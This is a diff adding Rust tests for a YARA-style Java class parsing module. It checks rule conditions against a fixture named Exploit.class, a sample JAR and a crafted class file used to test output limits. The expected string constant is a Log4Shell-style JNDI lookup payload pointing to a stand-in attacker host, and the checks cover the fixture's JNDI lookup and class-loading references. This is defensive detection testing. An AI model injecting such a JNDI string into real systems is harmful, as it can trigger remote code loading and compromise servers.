@@ -0,0 +1,156 @@
+use crate::modules::tests::create_binary_from_zipped_ihex;
+use crate::tests::rule_false;
+use crate::tests::rule_true;
+use crate::tests::test_rule;
+
+#[test]
+fn test_javaclass_module() {
+    let class = create_binary_from_zipped_ihex(
+        "src/modules/javaclass/tests/testdata/Exploit.class.in.zip",
+    );
+
+    let jar = create_binary_from_zipped_ihex(
+        "src/modules/javaclass/tests/testdata/sample.jar.in.zip",
+    );
+
+    rule_false!(
+        r#"
+        import "javaclass"
+        rule test {
+          condition:
+            javaclass.is_class
+        }
+        "#,
+        // Mach-O fat binary with 2 architectures, it has the same magic as
+        // a class file.
+        b"\xCA\xFE\xBA\xBE\x00\x00\x00\x02"
+    );
+
+    rule_true!(
+        r#"
+        import "javaclass"
+        rule test {
+          condition:
+            javaclass.is_class and
+            not javaclass.is_jar and
+            javaclass.classes[0].major_version == 52 and
+            javaclass.classes[0].minor_version == 0 and
+            javaclass.classes[0].access_flags & javaclass.ACC_PUBLIC != 0 and
+            javaclass.classes[0].name == "org/example/Exploit" and
+            javaclass.classes[0].super_class == "java/lang/Object" and
+            javaclass.classes[0].interfaces[0] == "java/lang/Runnable" and
+            javaclass.classes[0].source_file == "Exploit.java" and
+            not defined javaclass.classes[0].path
+        }
+        "#,
+        &class
+    );
+
+    rule_true!(
+        r#"
+        import "javaclass"
+        rule test {
+          condition:
+            javaclass.classes[0].fields[0].name == "PAYLOAD" and
+            javaclass.classes[0].fields[0].descriptor == "Ljava/lang/String;" and
+            javaclass.classes[0].fields[0].access_flags & javaclass.ACC_STATIC != 0 and
+            javaclass.classes[0].methods[1].name == "run" and
+            javaclass.classes[0].methods[1].descriptor == "()V" and
+            javaclass.classes[0].string_constants[0] == "${jndi:ldap://attacker.example.com/a}" and
+            for any c in javaclass.classes[0].class_refs : (
+              c == "javax/naming/InitialContext"
+            ) and
+            for any f in javaclass.classes[0].field_refs : (
+              f.class_name == "org/example/Exploit" and f.name == "attempts"
+            )
+        }
+        "#,
+        &class
+    );
+
+    rule_true!(
+        r#"
+        import "javaclass"
+        rule test {
+          condition:
+            javaclass.has_class("org/example/Exploit") and
+            not javaclass.has_class("org/example/Loader") and
+            javaclass.has_method("run") and
+            javaclass.has_method("org/example/Exploit", "main") and
+            not javaclass.has_method("org/example/Foo", "main") and
+            javaclass.has_method_ref("javax/naming/Context", "lookup") and
+            not javaclass.has_method_ref("javax/naming/Context", "bind") and
+            javaclass.has_string("${jndi:ldap://attacker.example.com/a}")
+        }
+        "#,
+        &class
+    );
+
+    rule_true!(
+        r#"
+        import "javaclass"
+        rule test {
+          condition:
+            javaclass.is_jar and
+            not javaclass.is_class and
+            javaclass.classes[0].path == "org/example/Exploit.class" and
+            javaclass.classes[1].path == "org/example/Loader.class" and
+            javaclass.classes[1].super_class == "java/lang/ClassLoader" and
+            javaclass.has_class("org/example/Loader") and
+            javaclass.has_method_ref("java/lang/ClassLoader", "defineClass") and
+            javaclass.has_method_ref("javax/naming/Context", "lookup")
+        }
+        "#,
+        &jar
+    );
+}
+
+#[test]
+fn test_javaclass_output_budget() {
+    let mut class = Vec::new();
+
+    // Magic, minor and major version.
+    class.extend_from_slice(b"\xCA\xFE\xBA\xBE\x00\x00\x00\x34");
+    // Constant pool count.
+    class.extend_from_slice(&2014_u16.to_be_bytes());
+    // #1: Utf8 constant with 60000 bytes.
+    class.push(1);
+    class.extend_from_slice(&60000_u16.to_be_bytes());
+    class.resize(class.len() + 60000, b'A');
+    // #2: Utf8 "Foo".
+    class.extend_from_slice(b"\x01\x00\x03Foo");
+    // #3: Class #2.
+    class.extend_from_slice(b"\x07\x00\x02");
+    // #4 to #13: String #1.
+    for _ in 0..10 {
+        class.extend_from_slice(b"\x08\x00\x01");
+    }
+    // #14 to #2013: pairs of NameAndType #1 #2 and Methodref #3 pointing to
+    // the previous NameAndType.
+    for i in 0..1000_u16 {
+        class.extend_from_slice(b"\x0c\x00\x01\x00\x02\x0a\x00\x03");
+        class.extend_from_slice(&(14 + 2 * i).to_be_bytes());
+    }
+    // Access flags, this class, super class, and zero interfaces, fields,
+    // methods and attributes.
+    class.extend_from_slice(b"\x00\x01\x00\x03\x00\x00");
+    class.extend_from_slice(&[0; 8]);
+
+    // The repeated string constant appears only once, and method references
+    // stop when the output budget is exhausted.
+    rule_true!(
+        r#"
+        import "javaclass"
+        rule test {
+          condition:
+            javaclass.is_class and
+            javaclass.classes[0].name == "Foo" and
+            defined javaclass.classes[0].string_constants[0] and
+            not defined javaclass.classes[0].string_constants[1] and
+            javaclass.classes[0].method_refs[200].class_name == "Foo" and
+            not defined javaclass.classes[0].method_refs[300].class_name
+        }
+        "#,
+        &class
+    );
+}